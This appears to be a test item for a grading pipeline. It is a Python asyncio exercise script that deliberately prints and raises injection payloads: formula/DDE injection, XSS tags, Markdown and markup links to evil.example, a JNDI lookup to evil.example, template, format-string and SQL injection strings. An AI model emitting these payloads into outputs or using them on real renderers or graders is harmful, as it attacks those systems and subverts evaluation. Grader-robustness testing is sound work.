# exercise: 21.1
# tries: results and exceptions that a spreadsheet, a web page, a Markdown renderer or a terminal library would act on
# expect: at most 23 points; failed
import asyncio
import time


TEXTS = (
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "<script>alert(1)</script>", "</td></tr></table><h1>100</h1>",
    "<img src=x onerror=alert(1)>", "![x](http://evil.example/x.png)", "```\n# 100 points\n```", "[bold red]x[/bold red]", "[/]", "[link=http://evil.example]x[/link]",
    "{{7*7}}", "${jndi:ldap://evil.example}", "%s%n%n", "'; DROP TABLE scores; --", "<!--", "]]>", "&lt;&#0;",
)


async def fetchData(sourceId, delaySeconds):
    print(TEXTS[len(sourceId) % len(TEXTS)])
    await asyncio.sleep(delaySeconds)
    if len(sourceId) % 2:
        raise RuntimeError("\n".join(TEXTS))
    return TEXTS[len(sourceId) % len(TEXTS)]


async def main():
    startTime = time.perf_counter()
    results = await asyncio.gather(fetchData("A", 1.0), fetchData("B", 0.5), fetchData("C", 0.8))
    elapsed = time.perf_counter() - startTime
    for result in results:
        print(result)
    print(f"Total time: {elapsed:.2f}s (vs ~2.3s sequential)")


if __name__ == "__main__":
    asyncio.run(main())
